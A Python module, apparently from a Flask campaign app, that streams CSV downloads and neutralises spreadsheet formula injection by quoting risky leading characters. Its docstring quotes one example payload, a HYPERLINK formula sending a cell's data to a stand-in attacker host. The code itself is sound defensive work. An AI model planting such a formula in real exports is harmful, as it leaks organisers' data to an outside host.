"""CSV files organisers open in a spreadsheet: no cell may run as a formula.

Names, comments and even email addresses come from the public. A cell such as
`=HYPERLINK("https://evil.example?"&A2, "Click")` would run when an organiser opens the export
(OWASP "CSV injection"), so text starting with a formula character gets a leading quote.
"""

import csv
import io
import itertools
from collections.abc import Callable, Iterable, Iterator
from datetime import datetime
from typing import Any

from flask import Response, stream_with_context

from campaign.db import utcnow
from campaign.extensions import db

# = + - @ start formulas; tab and carriage return can too, after a spreadsheet trims them.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> str:
    """A value as CSV cell text that a spreadsheet shows as text, never runs."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_lines(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The CSV text of a header and rows, one line at a time (streams; memory stays flat)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    try:
        for row in itertools.chain([header], rows):
            writer.writerow([neutralise(cell) for cell in row])
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    finally:
        _close(rows)  # stopped early: the rows' query ends now, not when collected


# Told, once a download has ended, how many rows went out and whether that was all of them.
Written = Callable[[int, bool], None]


def counted(lines: Iterable[str], written: Written) -> Iterator[str]:
    """The lines of a CSV (header first), then `written(rows, finished)` however it ends.

    A row counts once whoever reads the lines asks for the next one: a WSGI server does after
    sending it, so a download cut short counts the rows sent, not the one it could not send.
    """
    sent, finished = -1, False  # the header is not a row
    try:
        for line in lines:
            yield line
            sent += 1
        finished = True
    finally:
        _close(lines)
        written(max(sent, 0), finished)


def _close(iterable: Iterable) -> None:
    close = getattr(iterable, "close", None)
    if close is not None:
        close()


def csv_download(
    name: str,
    header: Iterable[str],
    rows: Iterable[Iterable[Any]],
    written: Written | None = None,
) -> Response:
    """A CSV attachment `name-YYYY-MM-DD.csv`, streamed a line at a time, never cached.

    The rows are read after the view has returned, when the request's session is gone: they must
    not touch an object the view loaded. The session is closed here, before the first row, so a
    row that does fails in every test as it would in production (where it sent only the header).
    `written`, when given, is told at the end how many rows went out (see `counted`).
    """
    db.session.close()
    lines = csv_lines(header, rows)
    if written is not None:
        lines = counted(lines, written)
    response = Response(stream_with_context(lines), mimetype="text/csv")
    filename = f"{name}-{utcnow().date().isoformat()}.csv"
    response.headers["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.headers["Cache-Control"] = "no-store"
    return response
